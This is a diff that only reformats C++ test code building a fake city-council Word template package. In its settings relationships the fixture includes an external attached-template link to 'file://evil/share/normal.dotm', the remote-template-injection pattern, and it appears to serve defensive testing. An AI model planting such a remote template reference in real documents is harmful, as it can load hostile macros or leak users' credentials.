@@ -33,16 +33,19 @@ inline const std::string kXml = "<?xml version=\"1.0\" encoding=\"UTF-8\" standa
 inline CouncilTemplate councilTemplate()
 {
     const auto paragraph = [](const std::string& text) { return "<w:p><w:r><w:t>" + text + "</w:t></w:r></w:p>"; };
-    const auto relation = [](const std::string& id, const std::string& kind, const std::string& target, bool external = false) {
+    const auto relation = [](const std::string& id, const std::string& kind, const std::string& target,
+                             bool external = false) {
         return "<Relationship Id=\"" + id + "\" Type=\"" + report::docx::typeOf(kind) + "\" Target=\"" + target + "\"" +
                (external ? " TargetMode=\"External\"" : "") + "/>";
     };
     const auto relations = [](const std::string& inside) {
-        return kXml + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" + inside +
-               "</Relationships>";
+        return kXml + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" +
+               inside + "</Relationships>";
     };
-    const auto style = [](const std::string& type, const std::string& id, const std::string& name, const std::string& inside) {
-        return "<w:style w:type=\"" + type + "\" w:styleId=\"" + id + "\"><w:name w:val=\"" + name + "\"/>" + inside + "</w:style>";
+    const auto style = [](const std::string& type, const std::string& id, const std::string& name,
+                          const std::string& inside) {
+        return "<w:style w:type=\"" + type + "\" w:styleId=\"" + id + "\"><w:name w:val=\"" + name + "\"/>" + inside +
+               "</w:style>";
     };
     CouncilTemplate t;
     t.parts["[Content_Types].xml"] =
@@ -62,7 +65,8 @@ inline CouncilTemplate councilTemplate()
         "ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml\"/><Override "
         "PartName=\"/word/footer1.xml\" "
         "ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.footer+xml\"/><Override "
-        "PartName=\"/word/theme/theme1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.theme+xml\"/></Types>";
+        "PartName=\"/word/theme/theme1.xml\" "
+        "ContentType=\"application/vnd.openxmlformats-officedocument.theme+xml\"/></Types>";
     t.parts["_rels/.rels"] = relations(relation("rId1", "officeDocument", "word/document2.xml"));
     t.parts["word/_rels/document2.xml.rels"] =
         relations(relation("rId1", "styles", "styles.xml") + relation("rId2", "numbering", "numbering.xml") +
@@ -77,7 +81,8 @@ inline CouncilTemplate councilTemplate()
     t.parts["word/document2.xml"] =
         kXml + "<w:document " + kWordNames + "><w:body>" + paragraph("COVER of the council") +
         "<w:p><w:hyperlink r:id=\"rId8\"><w:r><w:t>our page</w:t></w:r></w:hyperlink></w:p>"
-        "<w:p><w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:imagedata r:id=\"rId7\"/></v:shape></w:pict></w:r></w:p>"
+        "<w:p><w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:imagedata "
+        "r:id=\"rId7\"/></v:shape></w:pict></w:r></w:p>"
 
         "<w:p><w:pPr><w:sectPr><w:headerReference w:type=\"default\" r:id=\"rId4\"/><w:pgSz w:w=\"11906\" "
         "w:h=\"16838\"/><w:titlePg/></w:sectPr></w:pPr></w:p>" +
@@ -87,37 +92,42 @@ inline CouncilTemplate councilTemplate()
         "w:gutter=\"0\"/></w:sectPr></w:body></w:document>";
     t.parts["word/styles.xml"] =
         kXml + "<w:styles " + kWordNames +
-        "><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii=\"Gill Sans\"/><w:lang w:val=\"en-US\"/></w:rPr></w:rPrDefault>"
-        "</w:docDefaults><w:style w:type=\"paragraph\" w:default=\"1\" w:styleId=\"Standard\"><w:name w:val=\"Normal\"/>"
+        "><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii=\"Gill Sans\"/><w:lang "
+        "w:val=\"en-US\"/></w:rPr></w:rPrDefault>"
+        "</w:docDefaults><w:style w:type=\"paragraph\" w:default=\"1\" w:styleId=\"Standard\"><w:name "
+        "w:val=\"Normal\"/>"
         "<w:rPr><w:lang w:val=\"en-US\"/></w:rPr></w:style>" +
         style("paragraph", "berschrift1", "heading 1",
               "<w:basedOn w:val=\"Standard\"/><w:pPr><w:numPr><w:numId w:val=\"4\"/></w:numPr><w:outlineLvl "
               "w:val=\"0\"/></w:pPr><w:rPr><w:color w:val=\"00FF00\"/></w:rPr>") +
         style("paragraph", "Kopfzeile", "header", "") +
-        style("paragraph", "Listennummer", "List Number",
-              "<w:pPr><w:numPr><w:numId w:val=\"7\"/></w:numPr></w:pPr>") +
-        style("table", "Tabelle", "Boulton Table", "") +
-        style("paragraph", "Heading2", "Something else", "") + "</w:styles>";
+        style("paragraph", "Listennummer", "List Number", "<w:pPr><w:numPr><w:numId w:val=\"7\"/></w:numPr></w:pPr>") +
+        style("table", "Tabelle", "Boulton Table", "") + style("paragraph", "Heading2", "Something else", "") +
+        "</w:styles>";
     t.parts["word/numbering.xml"] =
         kXml + "<w:numbering " + kWordNames +
-        "><w:abstractNum w:abstractNumId=\"11\"><w:lvl w:ilvl=\"0\"><w:numFmt w:val=\"lowerLetter\"/></w:lvl></w:abstractNum>"
+        "><w:abstractNum w:abstractNumId=\"11\"><w:lvl w:ilvl=\"0\"><w:numFmt "
+        "w:val=\"lowerLetter\"/></w:lvl></w:abstractNum>"
         "<w:num w:numId=\"4\"><w:abstractNumId w:val=\"11\"/></w:num><w:num w:numId=\"7\"><w:abstractNumId "
         "w:val=\"11\"/></w:num></w:numbering>";
-    t.parts["word/settings.xml"] =
-        kXml + "<w:settings " + kWordNames +
-        "><w:attachedTemplate r:id=\"rId1\"/><w:defaultTabStop w:val=\"567\"/><w:evenAndOddHeaders/><w:docVars><w:docVar "
-        "w:name=\"a\" w:val=\"secret\"/></w:docVars></w:settings>";
+    t.parts["word/settings.xml"] = kXml + "<w:settings " + kWordNames +
+                                   "><w:attachedTemplate r:id=\"rId1\"/><w:defaultTabStop "
+                                   "w:val=\"567\"/><w:evenAndOddHeaders/><w:docVars><w:docVar "
+                                   "w:name=\"a\" w:val=\"secret\"/></w:docVars></w:settings>";
     t.parts["word/_rels/settings.xml.rels"] =
         relations(relation("rId1", "attachedTemplate", "file://evil/share/normal.dotm", true));
-    t.parts["word/theme/theme1.xml"] = kXml + "<a:theme xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><a:themeElements/></a:theme>";
-    t.parts["word/header1.xml"] = kXml + "<w:hdr " + kWordNames +
-                                  "><w:p><w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:imagedata "
-                                  "r:id=\"rId1\"/></v:shape></w:pict></w:r><w:r><w:t>City Council</w:t></w:r></w:p></w:hdr>";
+    t.parts["word/theme/theme1.xml"] =
+        kXml +
+        "<a:theme xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><a:themeElements/></a:theme>";
+    t.parts["word/header1.xml"] =
+        kXml + "<w:hdr " + kWordNames +
+        "><w:p><w:r><w:pict><v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:imagedata "
+        "r:id=\"rId1\"/></v:shape></w:pict></w:r><w:r><w:t>City Council</w:t></w:r></w:p></w:hdr>";
     t.parts["word/_rels/header1.xml.rels"] = relations(relation("rId1", "image", "media/logo.png"));
-    t.parts["word/footer1.xml"] =
-        kXml + "<w:ftr " + kWordNames +
-        "><w:p><w:r><w:t>OFFICIAL-SENSITIVE page </w:t></w:r><w:fldSimple w:instr=\" PAGE \"><w:r><w:t>1</w:t></w:r></w:fldSimple>"
-        "</w:p></w:ftr>";
+    t.parts["word/footer1.xml"] = kXml + "<w:ftr " + kWordNames +
+                                  "><w:p><w:r><w:t>OFFICIAL-SENSITIVE page </w:t></w:r><w:fldSimple w:instr=\" PAGE "
+                                  "\"><w:r><w:t>1</w:t></w:r></w:fldSimple>"
+                                  "</w:p></w:ftr>";
     return t;
 }
 
